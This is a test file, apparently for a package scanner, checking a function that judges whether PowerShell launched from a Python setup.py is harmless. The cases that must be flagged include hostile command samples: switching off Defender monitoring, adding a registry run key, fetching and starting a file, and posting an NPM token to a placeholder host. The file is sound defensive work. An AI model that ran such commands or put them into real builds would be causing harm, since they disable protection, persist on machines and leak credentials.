import t from 'tap'
import { setupPyCode } from '../../src/checks/setup-py-code.ts'
import { isHarmlessPowershell } from '../../src/analysis/shell/harmless-powershell.ts'
import { buildCodeIndex } from '../../src/inspection/code-index.ts'
import { readingOf } from './python-reading.ts'

const START = 'powershell -NoProfile -WindowStyle Hidden -Command '

const HARMLESS: readonly [situation: string, script: string][] = [
  ['tells something', `"Write-Output 'ready'"`],
  ['without quotes', 'Write-Output ready'],
  ['what is put together of texts', `"& ('Write' + '-Output') 'ready'"`],
  [
    'decodes a text that it shows',
    `"Write-Output ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('b2s=')))"`,
  ],
  [
    'asks for settings',
    `"if ($env:OS -eq 'Windows_NT') { Get-ItemProperty -Path 'HKCU:\\Control Panel\\Desktop' -Name Wallpaper }"`,
  ],
  [
    'writes and deletes files of its own folder',
    `"Set-Content 'build.ini' 'mode=plain'; Remove-Item -Recurse -Force .\\build"`,
  ],
  [
    'in a function and a job',
    `"function Go { Start-Job -ScriptBlock { Get-MpPreference | Out-Null } | Out-Null }; Go"`,
  ],
  ['loads a library of the platform by name', `"Add-Type -AssemblyName System.Drawing"`],
]

const NOT: readonly [situation: string, script: string][] = [
  ['a command that is not known', '"Frobnicate -All"'],
  ['a part that is not known', '"Write-Output \uE000"'],
  ['more than is kept of a line', `"Write-Output '${'a'.repeat(2000)}'"`],
  ['runs a text', `"iex 'Write-Output ready'"`],
  ['calls what a variable holds', `"& $x"`],
  ['a class that starts programs', `"[Diagnostics.Process]::Start('a')"`],
  ['loads a library out of bytes', `"[Reflection.Assembly]::Load($b)"`],
  ['switches a guard off', `"Set-MpPreference -DisableRealtimeMonitoring $true"`],
  ['is started at every login', `"Set-ItemProperty -Path 'HKCU:\\x' -Name Upd -Value 'a.exe'"`],
  ['a command in base64', `-EncodedCommand ${Buffer.from('Frobnicate -All now', 'utf16le').toString('base64')}`],
  ['takes what is copied', `"Write-Output (Get-Clipboard)"`],
  ['fetches', `"Invoke-WebRequest 'https://a.invalid/x' -OutFile x"`],
]

t.test('PowerShell that can be read whole and does nothing', async (t) => {
  for (const [situation, script] of HARMLESS) t.ok(isHarmlessPowershell(START + script, false), situation)
})

t.test('what is not known, or matters', async (t) => {
  for (const [situation, script] of NOT) t.notOk(isHarmlessPowershell(START + script, false), situation)
})

t.test('a fetch matters where it is said to, and what is fetched and run does always', async (t) => {
  const fetch = `${START}"Invoke-WebRequest 'https://a.invalid/x' -OutFile x`
  t.ok(isHarmlessPowershell(`${fetch}"`, true))
  t.notOk(isHarmlessPowershell(`${fetch}; Start-Process x"`, true))
  t.notOk(
    isHarmlessPowershell(`${START}"Invoke-RestMethod 'https://a.invalid/x' -Method Post -Body $env:NPM_TOKEN"`, true),
  )
})

const GRADES: readonly [situation: string, command: string, severity: string | undefined][] = [
  ['a script that does nothing', "Write-Output 'ready'", 'low'],
  ['one that cannot be read', 'Frobnicate -All', 'medium'],
  [
    'one that fetches from a host named like the project',
    "iwr 'https://api.mellow.invalid/v1' -OutFile v1.json",
    'low',
  ],
  ['one that fetches from another', "iwr 'https://api.other.invalid/v1' -OutFile v1.json", 'medium'],
]

for (const [situation, command, severity] of GRADES)
  t.test(`a build that starts PowerShell: ${situation}`, async (t) => {
    const line = `${START}"${command}"`
    const reading = readingOf('sdist', {
      'PKG-INFO': 'Metadata-Version: 2.1\nName: mellow\n',
      'setup.py': `import os\nos.system(${JSON.stringify(line)})\nfrom setuptools import setup\nsetup(name='mellow')\n`,
    })
    const code = buildCodeIndex(reading, 'pypi')
    const reports = setupPyCode.run({ ecosystem: 'pypi', reading, code })
    t.same(
      reports.map((report) => report.severity),
      [severity],
    )
  })
